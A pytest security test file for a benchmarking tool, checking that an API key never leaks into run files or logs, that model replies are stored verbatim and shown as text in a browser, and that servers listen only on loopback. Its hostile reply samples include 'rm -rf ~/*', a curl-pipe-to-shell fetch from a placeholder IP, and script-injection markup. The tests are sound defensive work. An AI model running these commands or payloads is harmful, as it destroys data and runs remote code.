"""Secrets, model output and listening sockets, checked on one real run of ``gridbench run``.

One sweep runs in a fresh process with its own embedded Ray (its temporary folder, with every
Ray log, kept apart): a model that works, one whose endpoint answers 401 and echoes the key
back (as real providers do), one whose endpoint always fails, one whose replies are hostile
(shell commands, markup, control characters, 60,000 characters), and the bundled llama.cpp
model served by gridbench. All share a fake key from the environment. Then ``gridbench report``
and ``gridbench view`` run on it. The key must appear nowhere: not in any file of the run, the
report, the viewer bundle, the model server's log, Ray's logs, or on stdout/stderr. Replies
must be stored verbatim and shown as text in Chromium. Every socket the run's processes listen
on is recorded while it runs: gridbench's servers listen on loopback only.
"""

from __future__ import annotations

import ipaddress
import json
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import pandas as pd
import psutil
import pyarrow.parquet as pq
import pytest
import yaml
from sweep_runs import FAKE_KEY, FAST_PROTOCOL, KEY_ENV, MAZES, ROOT, copy_mazes, gridbench

from orchestrator.serving.bundled import BUNDLED_MODEL, BUNDLED_SPEC
from testing.scripted_server import ScriptedServer

pytestmark = pytest.mark.slow
CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
KEY_PARTS = (FAKE_KEY, FAKE_KEY[-16:], FAKE_KEY[:20])  # the whole key and pieces of it


def hostile_replies(marker: Path) -> list[str]:
    return [
        f"Run this first: `rm -rf ~/*`; $(touch {marker}) && curl -s http://198.51.100.7/x | sh\nACTION: forward",
        "<script>window.__pwned='reply'</script><img src=x onerror=\"window.__pwned='img'\">"
        "<iframe src=\"javascript:window.__pwned='iframe'\"></iframe>\nACTION: left",
        "control \x00 nul \x1b[31mred\x1b[0m \x07 bell \r return \u202e rtl \u2028 sep {{x}} ${x}\nACTION: right",
        "long " + "AB" * 30000 + "\nACTION: forward",
    ]


def listening(root_pid: int) -> set[tuple[str, str, int]]:
    """(command line, address, port) of every listening TCP socket of a process tree."""
    try:
        root = psutil.Process(root_pid)
        tree = [root, *root.children(recursive=True)]
    except psutil.Error:
        return set()
    for proc in tree:
        # an exiting process reads as an empty command line: keep the one seen while it ran
        try:
            cmd = " ".join(proc.cmdline())[:200]
        except psutil.Error:
            continue
        if cmd:
            _COMMANDS[proc.pid] = cmd
    pids = {proc.pid for proc in tree}
    # one read of the system's socket tables per look: cheap enough to look often
    return {(_COMMANDS.get(c.pid, f"pid {c.pid}"), c.laddr.ip, c.laddr.port)
            for c in psutil.net_connections(kind="inet") if c.status == psutil.CONN_LISTEN and c.pid in pids}


_COMMANDS: dict[int, str] = {}


def wildcard(ip: str) -> bool:
    return ipaddress.ip_address(ip.split("%")[0]).is_unspecified


@pytest.fixture(scope="module")
def secured_run(tmp_path_factory):
    """The run, its report and viewer, every file and output to search, and the sockets seen."""
    tmp = tmp_path_factory.mktemp("security")
    marker = tmp / "pwned"
    ray_tmp = Path(tempfile.mkdtemp(prefix="gbsec", dir="/tmp"))  # short: Ray's socket paths must fit
    mazes = copy_mazes(tmp / "mazes", ["scale-8"])
    replies = hostile_replies(marker)
    # each lists its model, as a real endpoint does (the run's preflight asks); "denied" takes the
    # key for its listing and refuses it on every chat call, so its 401s reach the traces
    servers = {
        "works": ScriptedServer(mode="oracle", mazes=str(MAZES), model="works"),
        "denied": ScriptedServer(["401"], model="denied"),
        "broken": ScriptedServer(["500"], model="broken"),
        "hostile": ScriptedServer(replies, model="hostile"),
    }
    for s in servers.values():
        s.start()
    models = [{"name": name, "model": f"openai/{name}", "api_base": s.url, "api_key_env": KEY_ENV,
               "params": {"timeout": 5, "retries": 1}, "price": {"input": 1e-6, "output": 1e-6},
               "max_concurrency": 1} for name, s in servers.items()]
    models.append({"name": "smollm2", "model": BUNDLED_MODEL, "api_key_env": KEY_ENV, "max_concurrency": 1,
                   "serve": {"engine": "llama_cpp", "model": BUNDLED_SPEC, "n_ctx": 4096, "startup_timeout_s": 300},
                   "protocol": {"max_output_tokens": 16, "temperature": 0.0, "step_cap_factor": 0.15}})
    sweep = tmp / "secure.yaml"
    sweep.write_text(yaml.safe_dump({"name": "secure", "mazes": str(mazes), "protocol": FAST_PROTOCOL,
                                     "models": models}))
    out = tmp / "results"
    env = {**os.environ, KEY_ENV: FAKE_KEY, "RAY_TMPDIR": str(ray_tmp)}
    sockets: set = set()
    try:
        proc = subprocess.Popen([sys.executable, "-m", "app.cli", "run", str(sweep), "--out", str(out)],
                                cwd=ROOT, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
        deadline = time.monotonic() + 600
        while proc.poll() is None and time.monotonic() < deadline:
            sockets |= listening(proc.pid)
            time.sleep(0.1)
        stdout, stderr = proc.communicate(timeout=60)
        requests = {name: list(s.chat_requests) for name, s in servers.items()}
    finally:
        for s in servers.values():
            s.close()
    run = out / "secure"
    report = gridbench("report", str(run), env=env)
    view = gridbench("view", str(run), env=env)
    yield {"run": run, "ray_tmp": ray_tmp, "marker": marker, "replies": replies, "code": proc.returncode,
           "outputs": [stdout, stderr, report.stdout, report.stderr, view.stdout, view.stderr],
           "codes": (report.returncode, view.returncode), "sockets": sockets, "requests": requests}
    shutil.rmtree(ray_tmp, ignore_errors=True)


def file_text(path: Path) -> str:
    """What a file says: Parquet decoded (its pages are compressed), anything else as bytes."""
    if path.suffix == ".parquet":
        return json.dumps(pq.read_table(path).to_pylist(), default=str)
    return path.read_bytes().decode("utf-8", errors="replace")


def test_the_run_finished_with_the_failing_endpoints_as_errors(secured_run):
    episodes = pd.read_parquet(secured_run["run"] / "episodes").set_index("model_name")
    assert secured_run["code"] == 1, secured_run["outputs"][1][-3000:]
    assert episodes.loc["denied", "termination"] == "error" and episodes.loc["denied", "error_class"] == "AuthenticationError"
    assert episodes.loc["broken", "termination"] == "error"
    assert episodes.loc["works", "solved"] and episodes.loc["smollm2", "termination"] != "error"
    assert secured_run["codes"] == (0, 0)
    # the key did reach the endpoints, as the Authorization header: the test would notice a leak
    assert any(r.headers.get("authorization") == f"Bearer {FAKE_KEY}" for r in secured_run["requests"]["denied"])


def test_the_key_appears_in_no_output(secured_run):
    roots = [secured_run["run"], secured_run["ray_tmp"]]
    searched = 0
    for root in roots:
        for path in root.rglob("*"):
            if not path.is_file() or path.is_symlink() or path.suffix in (".sock",) or path.stat().st_size > 50e6:
                continue
            try:
                text = file_text(path)
            except OSError:
                continue
            searched += 1
            for part in KEY_PARTS:
                assert part not in text, f"{path} holds the key"
    assert searched > 50  # traces, manifest, report, viewer, server log, Ray's logs
    run = secured_run["run"]
    for expected in ("manifest.json", "servers/smollm2-0.log", "report/report.md", "view/index.html"):
        assert (run / expected).is_file(), expected
    assert list(secured_run["ray_tmp"].rglob("*.log")) or list(secured_run["ray_tmp"].rglob("*.out"))
    for text in secured_run["outputs"]:
        for part in KEY_PARTS:
            assert part not in text
    # the error of the 401 endpoint, which quoted the key, is kept in scrubbed form
    denied = pd.read_parquet(run / "episodes").set_index("model_name").loc["denied", "error_message"]
    assert "Incorrect API key provided" in denied and "[redacted]" in denied


def test_model_output_is_stored_verbatim_and_never_run(secured_run):
    steps = pd.read_parquet(secured_run["run"] / "steps")
    replies = steps[steps["model_name"] == "hostile"].sort_values("step")["reply"].tolist()
    expected = secured_run["replies"]
    assert replies[: len(expected)] == expected  # byte for byte, control characters and all
    assert len(replies[3]) > 60000
    assert not secured_run["marker"].exists()


@pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="needs Debian's chromium")
def test_hostile_replies_show_as_text_in_the_viewer(secured_run):
    from playwright.sync_api import sync_playwright

    view = secured_run["run"] / "view"
    # the index data file hands the page its JSON text; the episode is opened by its position
    text = (view / "data" / "episodes.js").read_text()
    index = json.loads(json.loads(re.fullmatch(r'gridbench\.put\("episodes",(.*)\);\n', text, re.S).group(1)))
    models = index["columns"]["model_name"]
    position = [models["values"][k] for k in models["codes"]].index("hostile")
    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--headless", "--no-sandbox", "--disable-gpu"])
        try:
            page = browser.new_page()
            errors: list[str] = []
            page.on("pageerror", lambda e: errors.append(str(e)))
            page.on("dialog", lambda d: errors.append(f"dialog {d.message}"))
            page.goto(f"{(view / 'index.html').as_uri()}#e={position}")
            page.wait_for_selector("body[data-ready='episode']")
            for n, reply in enumerate(secured_run["replies"], start=1):
                page.keyboard.press("ArrowRight")  # the key handler sets the reply's text at once
                shown = page.eval_on_selector("#reply", "e => e.textContent")
                assert shown == reply, (n, shown[:200])
                assert page.eval_on_selector("#reply", "e => e.children.length") == 0
            assert page.evaluate("window.__pwned") is None
            assert page.evaluate("document.querySelectorAll('script:not([src]):not([type]), iframe, img[src=x]').length") == 0
            assert errors == []
        finally:
            browser.close()


def test_servers_listen_on_loopback_only(secured_run):
    sockets = secured_run["sockets"]
    # the llama.cpp server, started as llama_cpp.server or through gridbench's wrapper of it
    llama = [(ip, port) for cmd, ip, port in sockets if "llama_cpp.server" in cmd or "llama_server" in cmd]
    assert llama, f"the model server was never seen listening; seen: {sorted(sockets)}"
    assert all(ipaddress.ip_address(ip).is_loopback for ip, _ in llama), llama
    # Every other listener of the run's process tree is Ray's own (GCS, raylet, agents, and the
    # gRPC endpoint of each worker, the driver's included): Ray binds those to every interface
    # and guards them with its token authentication. Nothing else may listen on a wildcard.
    def rays_own(cmd: str) -> bool:  # a program of the ray package, a Ray worker, or the driver's core worker
        return "/site-packages/ray/" in cmd or cmd.startswith("ray::") or "app.cli" in cmd

    assert not [s for s in sockets if ("llama" in s[0]) and wildcard(s[1])]
    others = [s for s in sockets if wildcard(s[1]) and not rays_own(s[0])]
    assert not others, others


@pytest.mark.parametrize("who", [["--name", "tester"], ["--serve"]])  # one player, or a served study
def test_the_play_page_listens_on_loopback_only(tmp_path, who):
    proc = subprocess.Popen([sys.executable, "-m", "app.cli", "play", str(MAZES / "scale-8.json"),
                             *who, "--out", str(tmp_path)], cwd=ROOT, stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True)
    try:
        line = proc.stdout.readline()
        assert line.startswith("open http://127.0.0.1:"), line
        sockets = listening(proc.pid)
        assert sockets and all(ipaddress.ip_address(ip).is_loopback for _, ip, _ in sockets), sockets
    finally:
        proc.terminate()
        proc.wait(timeout=30)


def test_the_scripted_test_server_listens_on_loopback_only():
    with ScriptedServer() as srv:
        mine = [c for c in psutil.Process().net_connections(kind="inet")
                if c.status == psutil.CONN_LISTEN and c.laddr.port == srv.port]
        assert mine and all(ipaddress.ip_address(c.laddr.ip).is_loopback for c in mine)
